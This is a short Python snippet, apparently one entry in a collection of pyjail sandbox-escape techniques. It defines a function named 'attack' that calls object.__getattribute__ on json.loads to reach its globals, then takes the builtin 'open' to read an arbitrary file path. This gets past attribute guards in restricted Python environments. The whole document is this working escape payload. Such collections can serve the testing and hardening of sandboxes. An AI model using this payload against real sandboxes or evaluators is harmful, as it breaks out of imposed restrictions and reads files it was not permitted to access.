# `object.__getattribute__` reads what no guard has seen.
# after: read
# source: pyjail: object.__getattribute__
import json
def attack(path, **_):
    found = object.__getattribute__(json.loads, "__globals__")
    return {"text": found["__builtins__"]["open"](path).read()}
